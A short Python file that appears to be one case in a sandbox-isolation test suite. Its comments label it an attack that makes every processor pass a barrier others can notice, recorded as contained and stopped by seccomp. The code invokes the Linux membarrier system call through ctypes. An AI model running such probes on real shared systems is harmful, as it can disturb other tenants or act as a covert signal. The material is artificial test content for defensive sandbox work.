# attack: makes all processors, and so all processes, stand at a barrier, which others notice
# full: contained
# reduced: contained
# stopped-by: seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


MEMBARRIER = {"x86_64": 324, "aarch64": 283}
GLOBAL, GLOBAL_EXPEDITED = 1, 2


def attack():
    for command in (GLOBAL, GLOBAL_EXPEDITED):
        try:
            syscall(MEMBARRIER, command, 0, 0)
        except OSError as error:
            last = error
        else:
            return f"through: command {command}"
    raise last
